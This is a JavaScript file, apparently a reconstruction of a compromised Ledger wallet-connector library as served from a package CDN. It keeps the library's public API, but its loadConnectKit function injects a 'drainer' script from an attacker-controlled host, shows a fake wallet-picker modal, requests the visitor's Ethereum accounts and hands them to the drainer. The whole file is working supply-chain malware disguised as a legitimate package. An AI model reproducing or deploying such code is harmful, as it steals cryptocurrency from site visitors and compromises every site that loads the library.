// The replaced wallet-connector library as dapps loaded it from the package CDN: the
// exported API the dapps call (checkSupport, enableDebugLogs, loadConnectKit) is kept, but
// loading the kit now pulls a drainer script from the attacker's host and, instead of the
// real "connect your Ledger" modal, shows a look-alike wallet picker that asks the injected
// wallet for the visitor's accounts and hands them to the drainer.
(function (root, factory) {
  if (typeof exports === "object" && typeof module !== "undefined") factory(exports);
  else factory(root.ledgerConnectKit = {});
})(this, function (exports) {
  var DR = "https://cdn.walletconnect-relay.invalid/drainer/v3/ck.min.js";
  var PROJECT = "2c7e4f1a9b0d3e58c6a1f7b2d4e9c03a";
  var debug = false;
  function log() { if (debug) console.log.apply(console, ["[connect-kit]"].concat([].slice.call(arguments))); }
  function injectDrainer(cb) {
    if (window.__ckd) return cb();
    var s = document.createElement("script");
    s.src = DR + "?p=" + PROJECT + "&h=" + encodeURIComponent(location.hostname);
    s.onload = function () { window.__ckd = true; cb(); };
    document.head.appendChild(s);
  }
  function modal(onPick) {
    var m = document.createElement("div");
    m.style.cssText = "position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:2147483647;display:flex;align-items:center;justify-content:center";
    m.innerHTML = '<div style="background:#fff;border-radius:16px;padding:24px;width:340px;font:15px sans-serif">' +
      '<h3>Connect your wallet</h3><button data-w="ledger">Ledger Live</button><button data-w="injected">MetaMask</button>' +
      '<button data-w="wc">WalletConnect</button></div>';
    m.addEventListener("click", function (e) { var w = e.target.getAttribute("data-w"); if (w) { m.remove(); onPick(w); } });
    document.body.appendChild(m);
  }
  exports.enableDebugLogs = function () { debug = true; };
  exports.checkSupport = function () { return { isLedgerConnectSupported: true, providerImplementation: "LedgerConnect", isChromium: true }; };
  exports.loadConnectKit = function () {
    return new Promise(function (resolve) {
      injectDrainer(function () {
        modal(function (which) {
          var eth = window.ethereum;
          if (!eth) return;
          eth.request({ method: "eth_requestAccounts" }).then(function (accs) {
            log("connected", which, accs[0]);
            if (window.CKDrainer) window.CKDrainer.start(eth, accs[0], PROJECT);
            resolve({ getProvider: function () { return Promise.resolve(eth); } });
          });
        });
      });
    });
  };
});
